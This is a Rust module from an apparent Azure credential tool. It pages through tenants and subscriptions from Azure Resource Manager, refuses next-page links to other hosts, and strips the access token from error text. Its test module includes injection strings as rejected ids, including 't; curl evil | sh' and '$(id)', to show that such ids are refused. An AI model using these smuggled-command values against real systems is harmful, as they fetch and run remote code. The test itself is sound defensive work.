//! Azure Resource Manager: which tenants and subscriptions an account sees.

use std::collections::HashSet;

use azvault_model::Secret;
use serde::Deserialize;
use serde_json::value::RawValue;
use url::Url;

use crate::error::{Error, ProviderError, is_code, sanitised};
use crate::http::{Ask, Header, Http, Plain, Repeat, Reply, Sent};
use crate::json;

mod challenge;

pub use challenge::claims_of;

const API_VERSION: &str = "2022-12-01";

/// Largest page: a thousand subscriptions with their tags have some 2 MiB.
const MAX_PAGE: usize = 8 * 1024 * 1024;

/// Most pages that are read.
const MAX_PAGES: usize = 500;

/// A tenant that an account is in.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tenant {
    /// GUID.
    pub id: String,
    /// Where the tenant shows it.
    pub name: Option<String>,
    /// Where the tenant shows it.
    pub default_domain: Option<String>,
    /// `Home`, `ProjectedBy` or `ManagedBy`.
    pub category: Option<String>,
}

/// A subscription that an account sees through a tenant.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Subscription {
    /// GUID.
    pub id: String,
    /// Its name.
    pub name: Option<String>,
    /// `Enabled`, `Disabled`, `Warned`, `PastDue`, `Deleted`.
    pub state: Option<String>,
    /// The tenant that owns it; another than the token's for what is managed by Lighthouse.
    pub home_tenant: Option<String>,
    /// The tenants that manage it besides.
    pub managed_by: Vec<String>,
}

/// All tenants, over all pages.
pub fn tenants(http: &Http, base: &Url, access_token: &Secret) -> Result<Vec<Tenant>, Error> {
    all(http, base, "/tenants", access_token, tenants_of)
}

/// All subscriptions, over all pages.
pub fn subscriptions(
    http: &Http,
    base: &Url,
    access_token: &Secret,
) -> Result<Vec<Subscription>, Error> {
    all(http, base, "/subscriptions", access_token, subscriptions_of)
}

/// What one page holds, and where the next is.
pub type Page<T> = (Vec<T>, Option<String>);

fn all<T>(
    http: &Http,
    base: &Url,
    path: &str,
    access_token: &Secret,
    read: fn(&str) -> Result<Page<T>, &'static str>,
) -> Result<Vec<T>, Error> {
    let mut url = base.clone();
    url.set_path(path);
    url.set_query(Some(&format!("api-version={API_VERSION}")));
    let (mut found, mut read_already) = (Vec::new(), HashSet::new());
    for _ in 0..MAX_PAGES {
        let reply = http.send(&Ask {
            url: &url,
            headers: vec![("authorization", Header::Secret("Bearer ", access_token))],
            sent: Sent::None,
            repeat: Repeat::Safe(&[]),
            plain: Plain::Loopback,
            limit: MAX_PAGE,
        })?;
        if reply.status != 200 {
            return Err(refused(&reply, access_token, "this is no error of Resource Manager"));
        }
        let (items, next) = read(reply.json()?).map_err(|what| reply.wrong(what))?;
        found.extend(items);
        let Some(next) = next else { return Ok(found) };
        let next = Url::parse(&next).map_err(|_| reply.wrong("the next page has no address"))?;
        // The token goes where the first page came from, and nowhere else.
        if next.origin() != base.origin() || !next.username().is_empty() {
            return Err(reply.wrong("the next page is on another host, which is refused"));
        }
        read_already.insert(std::mem::replace(&mut url, next));
        if read_already.contains(&url) {
            return Err(reply.wrong("the next page has been read already"));
        }
    }
    Err(Error::Reply {
        host: base.host_str().unwrap_or_default().to_owned(),
        status: 200,
        what: "the pages have no end",
    })
}

#[derive(Deserialize)]
struct List<'a> {
    #[serde(borrow)]
    value: Vec<&'a RawValue>,
    #[serde(borrow, default, rename = "nextLink")]
    next_link: Option<&'a RawValue>,
}

fn list<'a>(text: &'a str) -> Result<Page<&'a RawValue>, &'static str> {
    let list: List<'a> = serde_json::from_str(text).map_err(|_| "this is not a list")?;
    Ok((list.value, json::text(list.next_link).filter(|next| !next.is_empty())))
}

#[derive(Deserialize)]
struct TenantBody<'a> {
    #[serde(borrow, default, rename = "tenantId")]
    tenant_id: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "displayName")]
    display_name: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "defaultDomain")]
    default_domain: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "tenantCategory")]
    tenant_category: Option<&'a RawValue>,
}

/// Reads a page of tenants.
pub fn tenants_of(text: &str) -> Result<Page<Tenant>, &'static str> {
    let (items, next) = list(text)?;
    let tenant = |raw: &RawValue| {
        let body: TenantBody<'_> = serde_json::from_str(raw.get()).ok()?;
        Some(Tenant {
            id: json::text(body.tenant_id).filter(|id| is_code(id))?,
            name: json::text(body.display_name),
            default_domain: json::text(body.default_domain),
            category: json::text(body.tenant_category),
        })
    };
    let tenants: Option<Vec<_>> = items.into_iter().map(tenant).collect();
    Ok((tenants.ok_or("a tenant has no id")?, next))
}

#[derive(Deserialize)]
struct SubscriptionBody<'a> {
    #[serde(borrow, default, rename = "subscriptionId")]
    subscription_id: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "displayName")]
    display_name: Option<&'a RawValue>,
    #[serde(borrow, default)]
    state: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "tenantId")]
    tenant_id: Option<&'a RawValue>,
    #[serde(borrow, default, rename = "managedByTenants")]
    managed_by: Option<Vec<Manager<'a>>>,
}

#[derive(Deserialize)]
struct Manager<'a> {
    #[serde(borrow, default, rename = "tenantId")]
    tenant_id: Option<&'a RawValue>,
}

/// Reads a page of subscriptions.
pub fn subscriptions_of(text: &str) -> Result<Page<Subscription>, &'static str> {
    let (items, next) = list(text)?;
    let subscription = |raw: &RawValue| {
        let body: SubscriptionBody<'_> = serde_json::from_str(raw.get()).ok()?;
        let managers = body.managed_by.unwrap_or_default();
        Some(Subscription {
            id: json::text(body.subscription_id).filter(|id| is_code(id))?,
            name: json::text(body.display_name),
            state: json::text(body.state),
            home_tenant: json::text(body.tenant_id),
            managed_by: managers.iter().filter_map(|m| json::text(m.tenant_id)).collect(),
        })
    };
    let subscriptions: Option<Vec<_>> = items.into_iter().map(subscription).collect();
    Ok((subscriptions.ok_or("a subscription has no id")?, next))
}

#[derive(Deserialize)]
struct ErrorBody<'a> {
    #[serde(borrow)]
    error: ErrorMembers<'a>,
}

#[derive(Deserialize)]
struct ErrorMembers<'a> {
    #[serde(borrow, default)]
    code: Option<&'a RawValue>,
    #[serde(borrow, default)]
    message: Option<&'a RawValue>,
}

/// `{"error":{"code","message"}}`, and on 401 what `WWW-Authenticate` asks for.
/// What has another form is `otherwise`.
pub(crate) fn refused(reply: &Reply, access_token: &Secret, otherwise: &'static str) -> Error {
    // EXPOSE: it is taken out of an error text.
    let sent = [access_token.expose()];
    let claims = reply.challenges.iter().find_map(|challenge| claims_of(challenge));
    let text = match reply.json() {
        Ok(text) => text,
        // A challenge counts with any body, or none.
        Err(_) if reply.status == 401 => "",
        Err(error) => return error,
    };
    let body = serde_json::from_str::<ErrorBody<'_>>(text).ok();
    let member = |raw: Option<&RawValue>| json::text(raw).map(|text| sanitised(&text, &sent));
    let (code, message) =
        body.map_or((None, None), |b| (member(b.error.code), member(b.error.message)));
    if reply.status != 401 && code.is_none() {
        return reply.wrong(otherwise);
    }
    let error = Box::new(ProviderError {
        status: reply.status,
        error: code.unwrap_or_else(|| "unauthorized".to_owned()),
        text: message.unwrap_or_default(),
        claims,
        ..ProviderError::default()
    });
    match reply.status {
        401 if error.claims.is_some() => Error::InteractionNeeded(error),
        401 => Error::CredentialExpired(error),
        _ => Error::Refused(error),
    }
}

#[cfg(test)]
mod tests {
    use super::{subscriptions_of, tenants_of};

    #[test]
    fn pages_are_read() {
        let text = r#"{"value":[{"id":"/tenants/t","tenantId":"t","displayName":"T","defaultDomain":"d",
            "tenantCategory":"Home"},{"tenantId":"u"}],"nextLink":"https://x/2"}"#;
        let (tenants, next) = tenants_of(text).unwrap();
        assert_eq!((tenants.len(), next.as_deref()), (2, Some("https://x/2")));
        assert_eq!(tenants[0].name.as_deref(), Some("T"));
        let text = r#"{"value":[{"subscriptionId":"s","displayName":null,"state":"Warned","tenantId":"h",
            "managedByTenants":[{"tenantId":"m"}],"subscriptionPolicies":{"a":[1]}}],"nextLink":null}"#;
        let (subscriptions, next) = subscriptions_of(text).unwrap();
        assert!(next.is_none());
        assert_eq!(subscriptions[0].managed_by, ["m"]);
        assert_eq!(subscriptions[0].name, None);
    }

    #[test]
    fn what_is_no_page_is_refused() {
        for text in [
            "",
            "[]",
            "{}",
            r#"{"value":{}}"#,
            r#"{"value":[1]}"#,
            r#"{"value":[{}]}"#,
            r#"{"value":null}"#,
            // Ids stand in commands that azvault shows to be typed.
            r#"{"value":[{"tenantId":"","subscriptionId":""}]}"#,
            r#"{"value":[{"tenantId":"t; curl evil | sh","subscriptionId":"s\nt"}]}"#,
            r#"{"value":[{"tenantId":"$(id)","subscriptionId":"\u202es"}]}"#,
        ] {
            assert!(tenants_of(text).is_err(), "{text}");
            assert!(subscriptions_of(text).is_err(), "{text}");
        }
    }
}
